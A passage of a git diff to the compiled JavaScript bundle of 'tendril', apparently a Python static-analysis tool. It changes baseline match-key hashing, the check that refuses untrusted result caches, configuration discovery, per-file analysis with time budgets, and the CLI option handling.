-        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
-        __setModuleDefault(result, mod);
-        return result;
-    };
-})();
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.symbolAt = symbolAt;
-exports.matchKeyOf = matchKeyOf;
-exports.annotateMatchKeys = annotateMatchKeys;
-const crypto = __importStar(__nccwpck_require__(6982));
-/**
- * The line-independent part of a finding's identity, for baselines: the rule, the enclosing
- * symbol (`Class.method`, `<module>` at top level) and the source of the flagged construct with
- * all whitespace removed (so re-indenting or re-wrapping it does not make it new). The path and
- * the occurrence index complete the key at classification time (src/baseline/classify.ts): the
- * path because a rename maps it, the index because it depends on the other findings.
- */
-function symbolAt(tree, row, column) {
-    // A reference implementation on web-tree-sitter's own tree (the tests check annotateMatchKeys
-    // against it): down from the root with a cursor.
-    const names = [];
-    const cursor = tree.walk();
-    const before = (p) => p.row < row || (p.row === row && p.column <= column);
-    try {
-        const after = (p) => p.row > row || (p.row === row && p.column > column);
-        for (;;) {
-            // Into the child that holds the position, if any.
-            if (!cursor.gotoFirstChild())
-                break;
-            while (!after(cursor.endPosition) && cursor.gotoNextSibling())
-                ;
-            if (!before(cursor.startPosition) || !after(cursor.endPosition))
-                break;
-            const type = cursor.nodeType;
-            if (type === 'function_definition' || type === 'class_definition') {
-                const name = cursor.currentNode.childForFieldName('name');
-                // A finding on the name itself (`def f`) belongs to the scope outside f.
-                const onName = name && name.startPosition.row === row && name.startPosition.column <= column && column < name.endPosition.column;
-                if (name && !onName)
-                    names.push(name.text);
-            }
-        }
-    }
-    finally {
-        cursor.delete();
-    }
-    return names.length ? names.join('.') : '<module>';
-}
-function matchKeyOf(ruleId, symbol, snippet) {
-    const normalised = snippet.replace(/\s+/g, '');
-    return sha256Hex(`${ruleId}\0${symbol}\0${normalised}`).slice(0, 32);
-}
-// One-shot hashing where the runtime has it (Node 20.12+): no Hash object per finding.
-const oneShot = crypto.hash;
-const sha256Hex = oneShot
-    ? (data) => oneShot('sha256', data, 'hex')
-    : (data) => crypto.createHash('sha256').update(data).digest('hex');
-const DEFINITIONS = ['function_definition', 'class_definition'];
-/**
- * Fills in `matchKey` for the findings of one file (called by the engine while the tree lives).
- * One pass for all findings: the function and class definitions come from the flat tree in
- * pre-order (nested ones after their parent), and a sweep over the findings in order keeps the stack
- * of definitions that enclose the current one. The same symbols as `symbolAt`, without walking
- * the tree once per finding (a file with thousands of findings at one level was quadratic).
- */
-function annotateMatchKeys(findings, text, tree) {
-    if (findings.length === 0)
-        return;
-    const offset = (line, column) => tree.rowStart(line - 1) + column - 1;
-    const definitions = [];
-    // The tree is in pre-order: definitions come in document order, nested ones after their parent.
-    const isDefinition = tree.typeSet(DEFINITIONS);
-    const { symbol } = tree;
-    for (let i = 0; i < tree.count; i++) {
-        if (isDefinition[symbol[i]] !== 1)
-            continue;
-        const name = tree.node(i).childForFieldName('name');
-        definitions.push({
-            start: tree.startIndex[i],
-            end: tree.endIndex[i],
-            nameStart: name ? name.startIndex : -1,
-            nameEnd: name ? name.endIndex : -1,
-            name: name ? text.slice(name.startIndex, name.endIndex) : '',
-        });
-    }
-    const order = findings.map((f, i) => ({ f, i, at: offset(f.line, f.column) })).sort((a, b) => a.at - b.at || a.i - b.i);
-    const open = [];
-    let next = 0;
-    for (const { f, at } of order) {
-        while (next < definitions.length && definitions[next].start <= at) {
-            const d = definitions[next++];
-            while (open.length > 0 && open[open.length - 1].end <= d.start)
-                open.pop();
-            open.push(d);
-        }
-        while (open.length > 0 && open[open.length - 1].end <= at)
-            open.pop();
-        // A finding on a definition's own name (`def f`) belongs to the scope outside it.
-        const names = open.filter((d) => d.name && !(d.nameStart <= at && at < d.nameEnd)).map((d) => d.name);
-        const snippet = text.slice(at, offset(f.endLine, f.endColumn));
-        f.matchKey = matchKeyOf(f.ruleId, names.length ? names.join('.') : '<module>', snippet);
-    }
-}
-
-
-/***/ }),
-
-/***/ 7331:
-/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
-
-
-var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    var desc = Object.getOwnPropertyDescriptor(m, k);
-    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
-      desc = { enumerable: true, get: function() { return m[k]; } };
-    }
-    Object.defineProperty(o, k2, desc);
-}) : (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    o[k2] = m[k];
-}));
-var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
-    Object.defineProperty(o, "default", { enumerable: true, value: v });
-}) : function(o, v) {
-    o["default"] = v;
-});
-var __importStar = (this && this.__importStar) || (function () {
-    var ownKeys = function(o) {
-        ownKeys = Object.getOwnPropertyNames || function (o) {
-            var ar = [];
-            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
-            return ar;
-        };
-        return ownKeys(o);
-    };
-    return function (mod) {
-        if (mod && mod.__esModule) return mod;
-        var result = {};
-        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
-        __setModuleDefault(result, mod);
-        return result;
-    };
-})();
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.cacheRefusal = cacheRefusal;
-const fs = __importStar(__nccwpck_require__(9896));
-const path = __importStar(__nccwpck_require__(6928));
-const git_1 = __nccwpck_require__(8119);
-/**
- * Whether a result cache may be used: a cache that the analysed commit can write is never
- * trusted. The cache maps a file's bytes to its findings, so a pull request that commits an
- * edited cache file could have its own injection reported clean. Entries are already bound to
- * the engine build (src/engine/cache.ts), but a build's identity is public (the hash of a
- * published bundle), so that binding only keeps builds apart; it is no defence. Refused:
- *
- * - a cache directory with anything in it tracked by git (the commit wrote it);
- * - in the action, a cache directory inside the workspace (the analysed tree: anything in it,
- *   tracked or not, may come from the commit, and a committed symbolic link can point anywhere,
- *   so the real path is what counts).
- *
- * Returns why the cache is refused, or undefined when it may be used.
- */
-function cacheRefusal(dir, root, workspace) {
-    const abs = path.resolve(root, dir);
-    if (workspace) {
-        const ws = realish(workspace);
-        const real = realish(abs);
-        if (inside(abs, path.resolve(workspace)) || inside(real, ws)) {
-            return (`the cache directory ${abs} is inside the workspace, which the analysed commit writes, so its results cannot be trusted; ` +
-                'the cache is off for this run. Keep it outside the workspace (the default, under RUNNER_TEMP), restored and saved with actions/cache');
-        }
-    }
-    if (inside(abs, path.resolve(root)) && (0, git_1.tracksAnything)(root, path.relative(root, abs) || '.')) {
-        return `the cache directory ${abs} holds files tracked by git: the analysed commit wrote them, so they cannot be trusted; the cache is off for this run`;
-    }
-    return undefined;
-}
-function inside(child, parent) {
-    const rel = path.relative(parent, child);
-    return rel === '' || (!rel.startsWith('..') && !path.isAbsolute(rel));
-}
-/** The real path of `p`, or of its nearest existing ancestor joined with the rest. */
-function realish(p) {
-    let dir = path.resolve(p);
-    const rest = [];
-    for (;;) {
-        try {
-            return path.join(fs.realpathSync(dir), ...rest.reverse());
-        }
-        catch {
-            const parent = path.dirname(dir);
-            if (parent === dir)
-                return path.resolve(p);
-            rest.push(path.basename(dir));
-            dir = parent;
-        }
-    }
-}
-
-
-/***/ }),
-
 /***/ 5581:
 /***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
 
@@ -3684,20 +3365,23 @@ const os = __importStar(__nccwpck_require__(857));
 const path = __importStar(__nccwpck_require__(6928));
 const util_1 = __nccwpck_require__(9023);
 const git_1 = __nccwpck_require__(8119);
-const config_1 = __nccwpck_require__(2973);
+const config_1 = __nccwpck_require__(9551);
 const config_2 = __nccwpck_require__(3966);
-const discover_1 = __nccwpck_require__(4935);
-const profiles_1 = __nccwpck_require__(9717);
+const discover_1 = __nccwpck_require__(4883);
+const profiles_1 = __nccwpck_require__(6738);
 const worker_1 = __nccwpck_require__(6286);
-const cachetrust_1 = __nccwpck_require__(7331);
+const rules_1 = __nccwpck_require__(5755);
+const cachetrust_1 = __nccwpck_require__(7632);
 const errors_1 = __nccwpck_require__(3916);
 const json_1 = __nccwpck_require__(2794);
 const catalogue_1 = __nccwpck_require__(2239);
 const merge_1 = __nccwpck_require__(3278);
 const sarif_1 = __nccwpck_require__(643);
 const text_1 = __nccwpck_require__(5655);
-const run_1 = __nccwpck_require__(9786);
-const settings_1 = __nccwpck_require__(8750);
+const run_1 = __nccwpck_require__(319);
+const gates_1 = __nccwpck_require__(2343);
+const options_1 = __nccwpck_require__(8031);
+const settings_1 = __nccwpck_require__(7100);
 const version_1 = __nccwpck_require__(311);
 const HELP = `Usage: tendril <command> [options]
 
@@ -3711,38 +3395,7 @@ Commands:
   help              Show this help
 
 Options for check:
-  --format FORMAT                    text (default), sarif or json
-  --output FILE, -o FILE             Write the report to FILE instead of standard output
-  --jobs N, -j N                     Worker threads (default: available cores)
-  --config FILE                      Configuration file for every file (default: for each file, the
-                                     nearest tendril.toml, .tendril.toml or pyproject.toml with
-                                     [tool.tendril], looking upward from it)
-  --root DIR                         Directory SARIF paths are relative to (default: the git work
-                                     tree holding the current directory, else the current directory)
-  --select RULES                     Only these rules: ids, aliases (F401, B602) or kinds, comma-separated
-  --ignore RULES                     Leave out these rules (same forms)
-  --exclude PATTERNS                 Leave out these paths (gitignore-style, comma-separated);
-                                     replaces the default excludes and the configuration's
-  --extend-exclude PATTERNS          Leave out these paths as well
-  --include-suppressed               Keep findings suppressed in the source (# noqa, # nosec, ...),
-                                     marked as suppressed (SARIF suppressions, kind inSource)
-  --cache-dir DIR                    Content-hash cache of results (default: .tendril_cache in the root)
-  --no-cache                         Neither read nor write the cache
-  --max-file-size SIZE               Skip files larger than SIZE bytes (K, M, G accepted; default: 10M)
-  --file-timeout SECONDS             Give up on a file after SECONDS (default: 60)
-  --quiet, -q                        Text format: findings only, no totals
-  --statistics                       Text format: a count per rule instead of each finding
-  --fail-on-security-severity LEVEL  ${settings_1.SEVERITY_THRESHOLDS.join('|')} (default: high)
-  --max-maintainability-findings N   Fail above N maintainability findings (default: -1, no limit)
-  --no-color                         No colours (also when NO_COLOR is set or output is not a terminal)
-  --baseline-ref REF                 Compare with git revision REF: findings are new or unchanged (SARIF
-                                     baselineState); the severity gate counts only new ones
-  --baseline-sarif FILE              Compare with a previous Tendril SARIF file instead
-  --max-new-maintainability-findings N
-                                     Fail above N new maintainability findings (default: -1, no limit)
-  --scope all|changed                changed: only files changed against --baseline-ref (default: all)
-  --shard K/N                        Analyse only the K-th of N shards of the files (see merge)
-
+${(0, options_1.cliHelp)()}
 Exit codes: 0 no gate failed, 1 a gate failed, 2 usage, configuration or internal error.
 `;
 /** The SARIF report; what GitHub's limits made it leave out is also said on stderr. */
@@ -3765,100 +3418,27 @@ function nestedProfiles(settings) {
     }
     return [...counts].sort(([a], [b]) => a - b).map(([index, files]) => ({ profile: profiles.list[index], files }));
 }
-function list(value) {
-    return value === undefined ? undefined : value.split(',').map((s) => s.trim()).filter(Boolean);
-}
 async function check(args, mode = 'check') {
-    const { values, positionals } = (0, util_1.parseArgs)({
-        args,
-        allowPositionals: true,
-        strict: true,
-        options: {
-            format: { type: 'string', default: 'text' },
-            output: { type: 'string', short: 'o' },
-            jobs: { type: 'string', short: 'j' },
-            config: { type: 'string' },
-            root: { type: 'string' },
-            select: { type: 'string' },
-            ignore: { type: 'string' },
-            'fail-on-security-severity': { type: 'string' },
-            'max-maintainability-findings': { type: 'string' },
-            'no-color': { type: 'boolean', default: false },
-            exclude: { type: 'string' },
-            'extend-exclude': { type: 'string' },
-            'include-suppressed': { type: 'boolean' },
-            'cache-dir': { type: 'string' },
-            'no-cache': { type: 'boolean' },
-            'max-file-size': { type: 'string' },
-            'file-timeout': { type: 'string' },
-            quiet: { type: 'boolean', short: 'q', default: false },
-            statistics: { type: 'boolean', default: false },
-            'baseline-ref': { type: 'string' },
-            'baseline-sarif': { type: 'string' },
-            'max-new-maintainability-findings': { type: 'string' },
-            scope: { type: 'string' },
-            shard: { type: 'string' },
-        },
-    });
-    const format = values.format;
-    if (!['text', 'sarif', 'json'].includes(format)) {
-        throw new errors_1.UsageError(`--format: '${format}' is not valid; accepted: text, sarif, json`);
-    }
-    const root = path.resolve(values.root ?? (0, discover_1.findRoot)(process.cwd()));
-    if (!fs.existsSync(root) || !fs.statSync(root).isDirectory())
-        throw new errors_1.UsageError(`--root: not a directory: ${values.root}`);
+    const { values, positionals } = (0, util_1.parseArgs)({ args, allowPositionals: true, strict: true, options: (0, options_1.cliParseOptions)() });
+    // Every flag is read and validated as src/settings/options.ts says; errors name the flag.
+    const flags = new options_1.Given('cli', (name) => values[name], process.cwd());
+    const format = flags.valueOr('format');
+    const root = flags.value('root') ?? path.resolve((0, discover_1.findRoot)(process.cwd()));
     const paths = positionals.length ? positionals : ['.'];
-    if (values.config !== undefined && !fs.existsSync(values.config))
-        throw new errors_1.UsageError(`--config: ${values.config} does not exist`);
-    const configFile = values.config ?? (0, config_1.findConfig)((0, config_1.commonDirectory)(paths));
+    const configNamed = flags.value('config');
+    const configFile = configNamed ?? (0, config_1.findConfig)((0, config_1.commonDirectory)(paths));
     const fromFile = configFile ? (0, settings_1.readConfigFile)(configFile) : {};
-    const excludeFlag = list(values.exclude);
-    const extendFlag = list(values['extend-exclude']);
-    const fromFlags = {
-        select: list(values.select),
-        ignore: list(values.ignore),
-        // --ignore names every rule to leave out: it replaces both ignore and skips of the file.
-        skips: values.ignore !== undefined ? [] : undefined,
-        exclude: excludeFlag && (0, settings_1.compilePatterns)(excludeFlag, process.cwd()),
-        extendExclude: extendFlag && (0, settings_1.compilePatterns)(extendFlag, process.cwd()),
-        includeSuppressed: values['include-suppressed'],
-        cacheDir: values['no-cache'] ? false : values['cache-dir'] === undefined ? undefined : path.resolve(values['cache-dir']),
-        maxFileSize: values['max-file-size'] === undefined ? undefined : (0, settings_1.parseSize)(values['max-file-size'], '--max-file-size'),
-        fileTimeout: values['file-timeout'] === undefined ? undefined : (0, settings_1.parseJobs)(values['file-timeout'], '--file-timeout'),
-        failOnSecuritySeverity: values['fail-on-security-severity'] === undefined
-            ? undefined
-            : (0, settings_1.parseThreshold)(values['fail-on-security-severity'], '--fail-on-security-severity'),
-        maxMaintainabilityFindings: values['max-maintainability-findings'] === undefined
-            ? undefined
-            : (0, settings_1.parseLimit)(values['max-maintainability-findings'], '--max-maintainability-findings'),
-    };
-    const jobs = values.jobs === undefined ? os.availableParallelism() : (0, settings_1.parseJobs)(values.jobs, '--jobs');
-    if (values['baseline-ref'] !== undefined && values['baseline-sarif'] !== undefined) {
-        throw new errors_1.UsageError('--baseline-ref and --baseline-sarif exclude each other');
-    }
-    const gating = {
-        baselineRef: values['baseline-ref'] || undefined,
-        baselineSarif: values['baseline-sarif'] || undefined,
-        maxNewMaintainabilityFindings: values['max-new-maintainability-findings'] === undefined
-            ? -1
-            : (0, settings_1.parseLimit)(values['max-new-maintainability-findings'], '--max-new-maintainability-findings'),
-        scope: values.scope === undefined ? 'all' : (0, settings_1.parseScope)(values.scope, '--scope'),
-        shard: values.shard === undefined ? undefined : (0, settings_1.parseShard)(values.shard, '--shard'),
-    };
-    if (gating.baselineSarif && !fs.existsSync(gating.baselineSarif))
-        throw new errors_1.UsageError(`--baseline-sarif: ${gating.baselineSarif} does not exist`);
-    if (gating.scope === 'changed' && !gating.baselineRef)
+    const fromFlags = flags.settings();
+    const jobs = flags.value('jobs') ?? os.availableParallelism();
+    if (fromFlags.scope === 'changed' && !fromFlags.baselineRef)
         throw new errors_1.UsageError("--scope: 'changed' needs --baseline-ref");
-    if (gating.baselineRef)
-        (0, git_1.resolveCommit)(root, gating.baselineRef, '--baseline-ref');
-    if (values['cache-dir'] !== undefined && values['no-cache'])
-        throw new errors_1.UsageError('--cache-dir and --no-cache exclude each other');
+    if (fromFlags.baselineRef)
+        (0, git_1.resolveCommit)(root, fromFlags.baselineRef, '--baseline-ref');
     const settings = {
         ...(0, settings_1.resolveSettings)({ root, paths, jobs }, fromFile, fromFlags),
-        ...gating,
         configFile,
         // Without --config, configuration files nearer to the analysed files apply to them.
-        configSearch: values.config === undefined ? { from: (0, config_1.commonDirectory)(paths), flags: fromFlags } : undefined,
+        configSearch: configNamed === undefined ? { from: (0, config_1.commonDirectory)(paths), flags: fromFlags } : undefined,
     };
     // A cache the analysed commit wrote (tracked by git) is never trusted (src/cachetrust.ts).
     const refused = settings.cacheDir && mode !== 'config' ? (0, cachetrust_1.cacheRefusal)(settings.cacheDir, root) : undefined;
@@ -3881,23 +3461,28 @@ async function check(args, mode = 'check') {
     }
     for (const n of outcome.notifications)
         process.stderr.write(`tendril: ${n.level}: ${n.message}\n`);
-    const colour = !values['no-color'] && !process.env.NO_COLOR && !values.output && process.stdout.isTTY === true;
+    const output = flags.value('output');
+    const colour = !flags.valueOr('no-color') && !process.env.NO_COLOR && !output && process.stdout.isTTY === true;
     const report = format === 'sarif'
         ? sarifBytes(outcome)
         : format === 'json'
             ? (0, json_1.formatJson)(outcome)
-            : (0, text_1.formatText)(outcome, colour, { quiet: values.quiet, statistics: values.statistics });
-    if (values.output) {
-        fs.mkdirSync(path.dirname(path.resolve(values.output)), { recursive: true });
-        fs.writeFileSync(values.output, report);
-        process.stderr.write(`tendril: ${(0, text_1.totalsLine)(outcome)}; ${format} report written to ${values.output}\n`);
+            : (0, text_1.formatText)(outcome, colour, { quiet: flags.valueOr('quiet'), statistics: flags.valueOr('statistics') });
+    if (output) {
+        fs.mkdirSync(path.dirname(path.resolve(output)), { recursive: true });
+        fs.writeFileSync(output, report);
+        process.stderr.write(`tendril: ${(0, text_1.totalsLine)(outcome)}; ${format} report written to ${output}\n`);
         for (const reason of outcome.gate.reasons)
-            process.stderr.write(`tendril: gate failed: ${reason}\n`);
+            if (reason !== outcome.gate.internalError)
+                process.stderr.write(`tendril: gate failed: ${reason}\n`);
     }
     else {
         process.stdout.write(report);
     }
-    return outcome.gate.failed ? 1 : 0;
+    // An internal error fails the run whatever the gates say (src/gate/gates.ts): exit 2.
+    if (outcome.gate.internalError)
+        process.stderr.write(`tendril: error: ${outcome.gate.internalError}\n`);
+    return (0, gates_1.exitCode)(outcome.gate);
 }
 /** `tendril merge A.sarif B.sarif ... -o all.sarif`: shards -> one log, as one unsharded run. */
 function merge(args) {
@@ -3968,7 +3553,7 @@ function reason(error) {
     return `internal error: ${error instanceof Error ? error.message : String(error)}`;
 }
 if ((0, worker_1.isTendrilWorker)()) {
-    (0, worker_1.runWorker)();
+    (0, worker_1.runWorker)(rules_1.ALL_RULES);
 }
 else {
     main(process.argv.slice(2)).then((code) => {
@@ -3982,559 +3567,7 @@ else {
 
 /***/ }),
 
-/***/ 2973:
-/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
-
-
-var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    var desc = Object.getOwnPropertyDescriptor(m, k);
-    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
-      desc = { enumerable: true, get: function() { return m[k]; } };
-    }
-    Object.defineProperty(o, k2, desc);
-}) : (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    o[k2] = m[k];
-}));
-var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
-    Object.defineProperty(o, "default", { enumerable: true, value: v });
-}) : function(o, v) {
-    o["default"] = v;
-});
-var __importStar = (this && this.__importStar) || (function () {
-    var ownKeys = function(o) {
-        ownKeys = Object.getOwnPropertyNames || function (o) {
-            var ar = [];
-            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
-            return ar;
-        };
-        return ownKeys(o);
-    };
-    return function (mod) {
-        if (mod && mod.__esModule) return mod;
-        var result = {};
-        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
-        __setModuleDefault(result, mod);
-        return result;
-    };
-})();
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.configIn = configIn;
-exports.findConfig = findConfig;
-exports.commonDirectory = commonDirectory;
-const fs = __importStar(__nccwpck_require__(9896));
-const path = __importStar(__nccwpck_require__(6928));
-const smol_toml_1 = __nccwpck_require__(7106);
-const errors_1 = __nccwpck_require__(3916);
-/** True when a pyproject.toml has a `[tool.tendril]` table; invalid TOML is an error naming the file. */
-function hasTendrilTable(file) {
-    let doc;
-    try {
-        doc = (0, smol_toml_1.parse)(fs.readFileSync(file, 'utf8'));
-    }
-    catch (error) {
-        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
-        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
-    }
-    const tool = doc.tool;
-    return typeof tool === 'object' && tool !== null && 'tendril' in tool;
-}
-/** The configuration file of one directory, if it has one (see findConfig). */
-function configIn(dir) {
-    for (const name of ['tendril.toml', '.tendril.toml']) {
-        const file = path.join(dir, name);
-        if (fs.existsSync(file))
-            return file;
-    }
-    const pyproject = path.join(dir, 'pyproject.toml');
-    if (fs.existsSync(pyproject) && hasTendrilTable(pyproject))
-        return pyproject;
-    return undefined;
-}
-/**
- * The configuration file used when none is named, found as Ruff finds its own: from `start` (the
- * directory of the analysed paths) upward, the nearest directory with `tendril.toml`, then
- * `.tendril.toml`, then a `pyproject.toml` that has a `[tool.tendril]` table (one without it is
- * passed over, but must still be valid TOML, as other Python tools also require).
- */
-function findConfig(start) {
-    let dir = path.resolve(start);
-    if (fs.existsSync(dir) && !fs.statSync(dir).isDirectory())
-        dir = path.dirname(dir);
-    for (;;) {
-        const file = configIn(dir);
-        if (file)
-            return file;
-        const parent = path.dirname(dir);
-        if (parent === dir)
-            return undefined;
-        dir = parent;
-    }
-}
-/** The deepest directory holding every path: where the upward search for configuration starts. */
-function commonDirectory(paths) {
-    const dirs = paths.map((p) => {
-        const abs = path.resolve(p);
-        return fs.existsSync(abs) && !fs.statSync(abs).isDirectory() ? path.dirname(abs) : abs;
-    });
-    let common = dirs[0] ?? process.cwd();
-    for (const dir of dirs.slice(1)) {
-        while (common !== path.dirname(common) && path.relative(common, dir).startsWith('..'))
-            common = path.dirname(common);
-    }
-    return common;
-}
-
-
-/***/ }),
-
-/***/ 138:
-/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
-
-
-Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.DEFAULT_BUDGET = void 0;
-exports.analyzeSource = analyzeSource;
-const matchkey_1 = __nccwpck_require__(4991);
-const fingerprint_1 = __nccwpck_require__(1938);
-const context_1 = __nccwpck_require__(6173);
-const parser_1 = __nccwpck_require__(3715);
-const source_1 = __nccwpck_require__(7433);
-const suppress_1 = __nccwpck_require__(2111);
-const tree_1 = __nccwpck_require__(3036);
-const walk_1 = __nccwpck_require__(4721);
-exports.DEFAULT_BUDGET = { maxFileSize: 10 * 1024 * 1024, timeoutSeconds: 60 };
-/** Thrown by the budget checks to abandon a file. */
-class OverBudget extends Error {
-}
-/** Orders analyses so that each comes after the ones it builds on. */
-function analysesFor(rules) {
-    const ordered = [];
-    const visit = (analysis) => {
-        if (ordered.includes(analysis))
-            return;
-        for (const dep of analysis.uses ?? [])
-            visit(dep);
-        ordered.push(analysis);
-    };
-    for (const rule of rules)
-        for (const analysis of rule.uses ?? [])
-            visit(analysis);
-    return ordered;
-}
-/** The first ERROR or MISSING node in document order, for the syntax-error notification's position. */
-function firstSyntaxError(tree) {
-    for (let i = 0; i < tree.count; i++)
-        if (tree.typeName(i) === 'ERROR' || tree.isMissing(i))
-            return i;
-    return -1;
-}
-/**
- * Analyses one file's bytes: decode, parse once, walk once with every enabled rule (and the shared
- * analyses they use), then fingerprint the lines that have findings. Never throws for bad input:
- * what cannot be analysed becomes a notification.
- */
-async function analyzeSource(path, bytes, rules, options = {}, budget = exports.DEFAULT_BUDGET) {
-    const deadline = Date.now() + budget.timeoutSeconds * 1000;
-    const overBudget = () => ({
-        path,
-        findings: [],
-        notifications: [
-            {
-                level: 'error',
-                id: 'file-timeout',
-                path,
-                message: `${path} was not analysed: the analysis did not finish within the time budget (file-timeout, ${budget.timeoutSeconds} s).`,
-            },
-        ],
-    });
-    const checkpoint = () => {
-        if (Date.now() > deadline)
-            throw new OverBudget();
-    };
-    const notifications = [];
-    const result = { path, findings: [], notifications };
-    const decoded = (0, source_1.decodeSource)(bytes);
-    if (!decoded.ok) {
-        notifications.push({ level: 'error', id: 'file-undecodable', path, message: `${path} was not analysed: it ${decoded.reason}.` });
-        return result;
-    }
-    const parser = await (0, parser_1.getParser)();
-    let cancelled = false;
-    // The parser asks every so often whether to go on; past the deadline, it stops and returns null.
-    const progressCallback = () => (cancelled = Date.now() > deadline);
-    const parsed = parser.parse(decoded.text, null, { progressCallback: progressCallback });
-    if (!parsed && cancelled)
-        return overBudget();
-    if (!parsed) {
-        notifications.push({ level: 'error', id: 'internal-error', path, message: `${path} was not analysed: the parser gave up on it.` });
-        return result;
-    }
-    try {
-        // Copied once into JavaScript (src/engine/tree.ts); tree-sitter's own tree is freed at once.
-        let tree;
-        try {
-            tree = tree_1.SyntaxTree.from(parsed, decoded.text);
-        }
-        finally {
-            parsed.delete();
-        }
-        let active = rules;
-        if (tree.rootNode.hasError) {
-            const error = firstSyntaxError(tree);
-            const at = error < 0 ? undefined : tree.node(error);
-            const skipped = rules.filter((rule) => rule.meta.needsCleanParse).map((rule) => rule.meta.id);
-            active = rules.filter((rule) => !rule.meta.needsCleanParse);
-            const line = at ? at.startPosition.row + 1 : undefined;
-            const column = at ? at.startPosition.column + 1 : undefined;
-            notifications.push({
-                level: 'warning',
-                id: 'syntax-error',
-                path,
-                line,
-                column,
-                message: `${path} has a syntax error` +
-                    (line ? ` at line ${line}, column ${column}` : '') +
-                    (skipped.length ? `; rules that need the whole file were skipped there: ${skipped.join(', ')}.` : '.'),
-            });
-        }
-        const context = new context_1.FileContext(path, decoded.text, tree, options);
-        const visitors = [];
-        for (const analysis of analysesFor(active))
-            visitors.push(analysis.create(context));
-        for (const rule of active)
-            visitors.push(rule.create(context));
-        // Suppression comments are collected in the same walk: `comment` nodes, never a text scan.
-        const comments = [];
-        visitors.push({
-            comment: (node) => {
-                const start = node.startPosition;
-                const before = decoded.text.slice(node.startIndex - start.column, node.startIndex);
-                const ownLine = before.trim() === '';
-                // `)  # nosec` after a multi-line statement: the statement is the comment's previous sibling.
-                const previous = ownLine ? null : node.previousNamedSibling;
-                const statementStartRow = previous && previous.endPosition.row === start.row && previous.startPosition.row < start.row ? previous.startPosition.row : undefined;
-                comments.push({ row: start.row, column: start.column, endColumn: node.endPosition.column, text: node.text, ownLine, statementStartRow });
-            },
-        });
-        (0, walk_1.walk)(tree, visitors, checkpoint);
-        for (const visitor of visitors) {
-            checkpoint();
-            visitor.end?.();
-        }
-        const directives = (0, suppress_1.parseDirectives)(comments, decoded.text);
-        (0, suppress_1.applyDirectives)(context.findings, directives, active);
-        const unusedRule = active.find((rule) => rule.meta.id === suppress_1.UNUSED_SUPPRESSION_ID);
-        if (unusedRule) {
-            const enabled = new Set(active.map((rule) => rule.meta.id));
-            const before = context.findings.length;
-            for (const d of directives) {
-                const codes = (0, suppress_1.unusedCodes)(d, enabled);
-                if (codes.length === 0)
-                    continue;
-                context.reportRange(unusedRule.meta, { row: d.line - 1, column: d.column - 1 }, { row: d.line - 1, column: d.endColumn - 1 }, `Unused suppression: '${d.text}' suppresses no finding of ${codes.join(', ')}${d.lineLevel ? ' on this line' : ''}; remove ${codes.length > 1 ? 'these codes' : 'this code'}.`);
-            }
-            (0, suppress_1.applyDirectives)(context.findings.slice(before), directives, active);
-        }
-        result.findings = context.findings;
-        (0, matchkey_1.annotateMatchKeys)(result.findings, decoded.text, tree);
-    }
-    catch (error) {
-        if (error instanceof OverBudget)
-            return overBudget();
-        notifications.push({
-            level: 'error',
-            id: 'internal-error',
-            path,
-            message: `${path} was not fully analysed: internal error: ${error instanceof Error ? error.message : String(error)}`,
-        });
-        // For bug reports: TENDRIL_DEBUG=1 puts the stack of an internal error on stderr.
-        if (process.env.TENDRIL_DEBUG && error instanceof Error)
-            process.stderr.write(`${path}: ${error.stack}\n`);
-    }
-    if (result.findings.length > 0) {
-        // Hashed over the file as codeql-action reads it (UTF-8, BOM kept), not the decoded text.
-        const hashes = (0, fingerprint_1.lineHashes)(decoded.hashText(), new Set(result.findings.map((f) => f.line)));
-        for (const finding of result.findings)
-            finding.lineHash = hashes.get(finding.line);
-    }
-    return result;
-}
-
-
-/***/ }),
-
-/***/ 9468:
-/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
-
-
-var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    var desc = Object.getOwnPropertyDescriptor(m, k);
-    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
-      desc = { enumerable: true, get: function() { return m[k]; } };
-    }
-    Object.defineProperty(o, k2, desc);
-}) : (function(o, m, k, k2) {
-    if (k2 === undefined) k2 = k;
-    o[k2] = m[k];
-}));
-var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
-    Object.defineProperty(o, "default", { enumerable: true, value: v });
-}) : function(o, v) {
-    o["default"] = v;
-});
-var __importStar = (this && this.__importStar) || (function () {
-    var ownKeys = function(o) {
-        ownKeys = Object.getOwnPropertyNames || function (o) {
-            var ar = [];
-            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
-            return ar;
-        };
-        return ownKeys(o);
-    };
-    return function (mod) {
-        if (mod && mod.__esModule) return mod;
-        var result = {};
